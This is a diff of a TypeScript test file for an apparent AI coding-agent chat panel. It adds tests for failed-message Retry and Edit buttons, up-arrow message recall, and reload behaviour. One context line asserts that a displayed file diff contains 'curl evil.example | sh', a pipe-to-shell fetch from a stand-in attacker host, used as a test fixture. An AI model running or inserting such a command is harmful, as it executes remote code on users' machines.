@@ -77,6 +77,12 @@ class Node_ {
     return n;
   }
   focus() {}
+  selectionStart = 0;
+  selectionEnd = 0;
+  setSelectionRange(start: number, end: number) {
+    this.selectionStart = start;
+    this.selectionEnd = end;
+  }
   all(): Node_[] {
     return [this, ...this.children.flatMap((c) => c.all())];
   }
@@ -188,7 +194,7 @@ test('the chat bundle renders messages as text and posts valid messages', () => 
   assert.deepEqual(posted.slice(1), [
     { type: 'approve', id: 'a1', approved: false },
     { type: 'action', action: 'testConnection' },
-    { type: 'start', task: 'fix the test' },
+    { type: 'start', id: (posted.at(-1) as unknown as { id: string }).id, task: 'fix the test' },
   ]);
   assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
 });
@@ -671,4 +677,137 @@ test('changed files that run later are shown after the run with their diffs, and
   assert.match(files[1]!.textContent ?? '', /^added deploy\.sh/);
   assert.match(files[0]!.textContent ?? '', /\+\tcurl evil\.example \| sh/);
   assert.match(files[1]!.textContent ?? '', /too large to show/);
+});
+
+test('a message that could not be sent stays in the log, marked failed, with Retry and Edit', () => {
+  const { ids, posted, onMessage } = loadChat();
+  const task = ids.get('task')!;
+  const inner = ids.get('log-inner')!;
+  task.value = 'fix the test';
+  ids.get('run')!.fire('click');
+  const start = posted.at(-1) as { type: string; id: string; task: string };
+  assert.equal(start.type, 'start');
+  assert.equal(task.value, '');
+  const bubbles = () => inner.all().filter((n) => n.className.startsWith('msg user'));
+  assert.deepEqual(
+    bubbles().map((b) => b.className),
+    ['msg user sending'],
+    'the bubble shows at once',
+  );
+  onMessage({ data: { type: 'sendReceived', id: start.id } });
+  onMessage({
+    data: {
+      type: 'sendFailed',
+      id: start.id,
+      task: 'fix the test',
+      reason: 'Could not reach the model server at http://127.0.0.1:9/v1',
+      actions: ['openEndpointSetting', 'testConnection'],
+    },
+  });
+  const [bubble] = bubbles();
+  assert.equal(bubble!.className, 'msg user failed');
+  assert.match(bubble!.textContent ?? '', /fix the test✕ Not sent: Could not reach the model server/);
+  const buttons = bubble!.all().filter((n) => n.tag === 'button');
+  assert.deepEqual(
+    buttons.map((b) => b.textContent),
+    ['Retry', 'Edit', 'Open Endpoint Setting', 'Test Connection'],
+  );
+  // Retry: the same message, the same bubble, sending again; the run's start clears the mark.
+  buttons[0]!.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'start', id: start.id, task: 'fix the test' });
+  assert.equal(bubble!.className, 'msg user sending');
+  assert.doesNotMatch(bubble!.textContent ?? '', /Not sent/);
+  onMessage({
+    data: {
+      type: 'runStarted',
+      id: start.id,
+      task: 'fix the test',
+      model: 'm',
+      endpoint: 'e',
+      trajectory: 't',
+      sandbox: { confined: true, text: 'x' },
+    },
+  });
+  assert.deepEqual(
+    bubbles().map((b) => b.className),
+    ['msg user'],
+    'one bubble, sent',
+  );
+  assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
+});
+
+test('Edit puts a failed message back in the input and forgets it; a reload reads a failed one back', () => {
+  const { ids, posted, onMessage } = loadChat();
+  const task = ids.get('task')!;
+  const inner = ids.get('log-inner')!;
+  // As a reload replays it: the bubble is drawn from the message alone, and Retry sends it under its id.
+  onMessage({ data: { type: 'sendFailed', id: 'mold1', task: 'add a test', reason: 'down', actions: [] } });
+  const failed = inner.all().find((n) => n.className === 'msg user failed');
+  assert.ok(failed);
+  const button = (label: string) => failed.all().find((n) => n.tag === 'button' && n.textContent === label)!;
+  button('Retry').fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'start', id: 'mold1', task: 'add a test' });
+  onMessage({ data: { type: 'sendFailed', id: 'mold1', task: 'add a test', reason: 'still down', actions: [] } });
+  assert.match(failed.textContent ?? '', /still down/);
+  assert.doesNotMatch(failed.textContent ?? '', /Not sent: down/);
+  task.value = 'and more';
+  button('Edit').fire('click');
+  assert.equal(task.value, 'add a test\n\nand more');
+  assert.equal(failed.parent, undefined, 'the failed bubble is gone');
+  assert.deepEqual(posted.at(-1), { type: 'discardFailed', id: 'mold1' });
+});
+
+test('↑ in the empty input recalls the chat’s messages, ↓ walks back, Escape leaves', () => {
+  const { ids, onMessage } = loadChat();
+  const task = ids.get('task')!;
+  let stopped = 0;
+  const key = (k: string) =>
+    task.fire('keydown', {
+      key: k,
+      preventDefault() {},
+      stopPropagation() {
+        stopped++;
+      },
+    });
+  onMessage({ data: { type: 'userMessage', text: 'from the restored chat' } });
+  task.value = 'fix the test';
+  ids.get('run')!.fire('click');
+  key('ArrowUp');
+  assert.equal(task.value, 'fix the test');
+  key('ArrowUp');
+  assert.equal(task.value, 'from the restored chat');
+  key('ArrowDown');
+  assert.equal(task.value, 'fix the test');
+  key('Escape');
+  assert.equal(task.value, '', 'Escape gives back the empty input');
+  assert.equal(stopped, 4, 'recall’s keys go no further (Escape does not stop a run)');
+  task.value = 'my own words';
+  key('ArrowUp');
+  assert.equal(task.value, 'my own words', '↑ over the user’s own text moves the caret');
+  onMessage({ data: { type: 'clear' } });
+  task.value = '';
+  key('ArrowUp');
+  assert.equal(task.value, '', 'a new chat has nothing to recall');
+});
+
+test('a message the model never answered is marked failed where it is, live and after a reload', () => {
+  const { ids, onMessage } = loadChat();
+  const inner = ids.get('log-inner')!;
+  const started = {
+    type: 'runStarted',
+    id: 'mrun1',
+    task: 'fix the test',
+    model: 'm',
+    endpoint: 'e',
+    trajectory: 't',
+    sandbox: { confined: true, text: 'x' },
+  };
+  // As a reload replays it: the run's start draws the bubble, its failure marks the same one.
+  onMessage({ data: started });
+  onMessage({ data: { type: 'sendFailed', id: 'mrun1', task: 'fix the test', reason: 'no answer', actions: [] } });
+  const bubbles = inner.all().filter((n) => n.className.startsWith('msg user'));
+  assert.deepEqual(
+    bubbles.map((b) => b.className),
+    ['msg user failed'],
+  );
 });
